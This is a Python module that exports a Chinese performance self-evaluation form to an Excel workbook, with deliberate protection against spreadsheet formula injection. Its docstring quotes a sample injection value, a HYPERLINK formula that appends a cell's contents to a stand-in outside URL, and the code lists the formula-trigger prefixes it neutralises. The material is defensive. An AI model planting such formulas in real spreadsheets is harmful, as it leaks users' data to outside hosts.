"""The filled form as an Excel workbook (openpyxl, imported only here).

Real merged cells for the group columns, numbers stored as numbers (weights and scores with a
0.00 format), column widths that fit Chinese text, borders and a frozen header row — a finance
officer opens it and keeps working in it.

Every text cell is stored as text, never as a formula: openpyxl makes any string that starts
with `=` a live formula, and a title or a unit name such as `=HYPERLINK("http://x/?"&A1)` would
run when the workbook is opened. Following OWASP's advice on formula (CSV) injection, text
that starts with `=`, `+`, `-`, `@`, a tab or a carriage return (or their full-width forms,
which Excel also reads as formulas) is marked as literal text with Excel's own quote prefix —
what Excel sets when someone types `'=…` — so it shows as written and stays text when the
cell is edited or the sheet is saved as CSV from Excel.
"""

from __future__ import annotations

import io
from decimal import Decimal
from typing import Any

from perfdsl.language.source import cell_width

# OWASP: cells starting with these are read as formulas by spreadsheet programs.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def workbook_bytes(model: dict[str, Any]) -> bytes:
    from openpyxl import Workbook
    from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
    from openpyxl.utils import get_column_letter

    model = _printable(model)
    labels = model["labels"]
    depth = model["depth"]
    book = Workbook()
    sheet = book.active
    sheet.title = "自评表" if model["lang"] == "zh" else "Self-evaluation"
    thin = Side(style="thin", color="444444")
    border = Border(left=thin, right=thin, top=thin, bottom=thin)
    bold = Font(bold=True)
    grey = PatternFill("solid", fgColor="EEEEEE")
    centre = Alignment(horizontal="center", vertical="center", wrap_text=True)
    wrap = Alignment(vertical="center", wrap_text=True)
    columns = depth + 4
    row = 1

    title = model["title"] + (f"（{model['year']}年度）" if model["year"] else "")
    sheet.cell(row=row, column=1, value=title).font = Font(bold=True, size=14)
    sheet.merge_cells(start_row=row, start_column=1, end_row=row, end_column=columns)
    sheet.cell(row=row, column=1).alignment = centre
    row += 1
    for item in model["header"]:
        sheet.cell(row=row, column=1, value=item["label"]).font = bold
        sheet.cell(row=row, column=2, value=item["value"])
        row += 1
    if model["funds"]:
        sheet.cell(row=row, column=1, value=labels["funds"]).font = bold
        row += 1
        for i, item in enumerate(model["funds"]):
            sheet.cell(row=row, column=1 + i, value=item["label"]).font = bold
            sheet.cell(row=row + 1, column=1 + i, value=_number(item["value"]))
        row += 2
    row += 1

    header_row = row
    headings = model["levels"] + [labels["reference"], labels["weight"], labels["explanation"],
                                  labels["score"]]
    for i, text in enumerate(headings, start=1):
        cell = sheet.cell(row=row, column=i, value=text)
        cell.font, cell.fill, cell.alignment, cell.border = bold, grey, centre, border
    row += 1
    first = row
    for entry in model["rows"]:
        for cell_info in entry["cells"]:
            column = cell_info["column"] + 1
            cell = sheet.cell(row=row, column=column, value=cell_info["text"])
            cell.alignment = centre
            if cell_info["rowspan"] > 1 or cell_info["colspan"] > 1:
                sheet.merge_cells(start_row=row, start_column=column,
                                  end_row=row + cell_info["rowspan"] - 1,
                                  end_column=column + cell_info["colspan"] - 1)
        values = [entry["reference_number"], entry["weight_number"],
                  entry["explanation"] if entry["kind"] != "group" else "——",
                  entry["score"] if entry["score_number"] is None else entry["score_number"]]
        for offset, value in enumerate(values):
            cell = sheet.cell(row=row, column=depth + 1 + offset, value=_excel(value))
            cell.alignment = wrap if offset == 2 else Alignment(horizontal="right", vertical="center")
            if offset in (0, 1, 3) and value is not None:
                cell.number_format = "0.00" if offset == 3 else "General"
            if entry["kind"] == "group":
                cell.font, cell.fill = bold, PatternFill("solid", fgColor="F6F6F6")
        row += 1
    total = model["total"]
    sheet.cell(row=row, column=1, value=labels["total"]).font = bold
    if depth > 1:
        sheet.merge_cells(start_row=row, start_column=1, end_row=row, end_column=depth)
    for offset, value in enumerate([total["reference_number"], total["weight_number"],
                                    f"{labels['grade']}：{model['grade']}", total["score_number"]]):
        cell = sheet.cell(row=row, column=depth + 1 + offset, value=_excel(value))
        cell.font = bold
        if offset == 3:
            cell.number_format = "0.00"
    for r in range(header_row, row + 1):
        for c in range(1, columns + 1):
            sheet.cell(row=r, column=c).border = border
    for line in model.get("rescaled", ()):  # each subtotal and total shared out (不适用)
        row += 1
        sheet.cell(row=row, column=1, value=line)
    if model["problems"]:
        row += 2
        sheet.cell(row=row, column=1, value=labels["problems"]).font = bold
        for problem in model["problems"]:
            row += 1
            sheet.cell(row=row, column=1, value=problem)
    sheet.freeze_panes = sheet.cell(row=first, column=1)

    widths = [max([cell_width(h) for h in model["levels"]] + [8])] * depth
    for i in range(depth):
        texts = [c["text"] for e in model["rows"] for c in e["cells"] if c["column"] == i]
        widths[i] = min(max([cell_width(t) for t in texts] + [cell_width(headings[i])]) + 2, 30)
    widths += [10, 10, 60, 10]
    for i, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(i)].width = width
    sheet.page_setup.orientation = "landscape"
    sheet.page_setup.paperSize = sheet.PAPERSIZE_A4
    sheet.page_setup.fitToWidth = 1
    sheet.print_title_rows = f"{header_row}:{header_row}"

    return book_bytes(book)


def book_bytes(book: Any) -> bytes:
    """A workbook saved the one way perfdsl saves workbooks: every text cell of every sheet
    stays text — never a formula, quote-prefixed when it looks like one (OWASP)."""
    for sheet in book.worksheets:
        for sheet_row in sheet.iter_rows():
            for cell in sheet_row:
                _as_text(cell)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _as_text(cell: Any) -> None:
    """A text cell stays text: never a formula, and quote-prefixed when it looks like one."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
        if cell.value.startswith(FORMULA_STARTS):
            cell.quotePrefix = True


def _printable(value: Any) -> Any:
    """The model with the control characters Excel refuses in a cell (a figure pasted with a
    stray \\x08 shows in its problem message) taken out of every string."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub("", value)
    if isinstance(value, dict):
        return {k: _printable(v) for k, v in value.items()}
    if isinstance(value, list):
        return [_printable(v) for v in value]
    return value


def _excel(value: Any) -> Any:
    """Decimals as Excel numbers: ints when whole, else floats (two-decimal scores are exact).
    Excel holds 15 significant digits; anything beyond its range is written as text."""
    if isinstance(value, Decimal):
        from perfdsl import formatting

        if not value.is_finite() or (value and not -300 < value.adjusted() < 300):
            return formatting.plain(value)
        if value == value.to_integral_value() and value.adjusted() < 15:
            return int(value)
        return float(value)
    return value


def _number(text: str) -> Any:
    """A funds amount (万元) as a number when it is one (`40.11`, `401100元`), else the text as
    the unit wrote it (an unreadable amount is reported as a data problem, D003 or D011)."""
    from perfdsl.data.figures import money_in_wan

    amount = money_in_wan(text)
    return text if amount is None else _excel(amount)
